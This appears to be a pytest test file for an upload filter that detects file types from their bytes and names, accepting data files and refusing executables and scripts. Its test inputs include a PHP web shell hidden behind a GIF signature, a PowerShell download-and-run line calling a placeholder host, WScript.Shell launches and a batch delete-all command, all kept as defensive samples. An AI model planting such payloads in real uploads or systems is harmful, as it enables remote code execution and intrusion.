"""Type detection from the bytes: data files pass, executables and scripts do not."""

from __future__ import annotations

import gzip
import io
import zipfile

import pytest

from uploads.checks import content_type_allowed, content_type_detect


def zipped() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("weights.npy", b"\x93NUMPY" + b"\x00" * 100)
    return buffer.getvalue()


@pytest.mark.parametrize(("head", "expected"), [
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "image/png"),
    (gzip.compress(b"x" * 100), "application/gzip"),
    (zipped(), "application/zip"),
    (b"%PDF-1.7\n", "application/pdf"),
    (b"temperature,humidity\n21.5,40\n", "text/plain"),
    (b'{"round": 3, "weights": [0.1, 0.2]}', "application/json"),
    (b"\x00\x01\x02\x03binary", "application/octet-stream"),
    (b"# notes\nimport matters less than you think\n", "text/plain"),
])
def test_data_files_are_recognised_and_allowed(head, expected):
    assert content_type_detect(head) == expected
    assert content_type_allowed(content_type=expected, allowed_types=[])


@pytest.mark.parametrize("head", [
    b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 60,
    b"\xcf\xfa\xed\xfe" + b"\x00" * 60,
    b"\xca\xfe\xba\xbe" + b"\x00" * 60,
    b"#!/usr/bin/env bash\necho\n",
    b"\xef\xbb\xbf  <?php echo 1;",
    b"<html><body>hi</body></html>",
    b"  <!DOCTYPE HTML>\n<title>x</title>",
    b"'use strict';\nmodule.exports = 1;",
    b"(function(){ alert(1) })()",
    b"# -*- coding: utf-8 -*-\nfrom os import system\n",
    b"@echo off\r\ndel *.*\r\n",
])
def test_executables_and_scripts_are_refused_by_default(head):
    assert not content_type_allowed(content_type=content_type_detect(head), allowed_types=[])


def test_allowed_types_take_patterns():
    assert content_type_allowed(content_type="image/png", allowed_types=["image/*"])
    assert not content_type_allowed(content_type="text/plain", allowed_types=["image/*", "application/zip"])
    # A pool that asks for scripts explicitly gets them.
    assert content_type_allowed(content_type="text/x-python", allowed_types=["text/x-python"])


@pytest.mark.parametrize(("head", "name"), [
    (b"GIF89a<?php system($_GET['c']); ?>", "avatar.gif"),  # the image signature comes first
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR<script>alert(1)</script>", "chart.png"),
    (b"%PDF-1.4\n<?php echo 1; ?>", "report.pdf"),
    (b'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("calc");', "update.txt"),
    (b'Set objShell = CreateObject("WScript.Shell")\nobjShell.Run "calc"', "notes.txt"),
    (b"IEX (New-Object Net.WebClient).DownloadString('http://x/y')", "readme"),
    (b'Dim x\nx = 1\nMsgBox "hi"', "setup.vbs"),
    (b"Write-Host 'hello'\n", "install.ps1"),
    (b"copy a b\r\n", "go.bat"),
    (b"print('hi')\n", "tool.py"),
    (b"alert(1)\n", "app.js"),
    (b"cd /tmp\n", "run.sh"),
    (b"\xff\xfe c o p y", "go.CMD"),  # not UTF-8: the name still decides
])
def test_scripts_are_refused_whatever_comes_first_and_by_name(head, name):
    detected = content_type_detect(head, filename=name)
    assert not content_type_allowed(content_type=detected, allowed_types=[]), detected


@pytest.mark.parametrize(("head", "name", "expected"), [
    (b"temperature,humidity\n21.5,40\n", "readings.csv", "text/plain"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "script.js", "image/png"),  # a real image named oddly
    (b"the shell script notes\n", "notes.md", "text/plain"),
])
def test_data_files_keep_their_type_whatever_the_name(head, name, expected):
    assert content_type_detect(head, filename=name) == expected
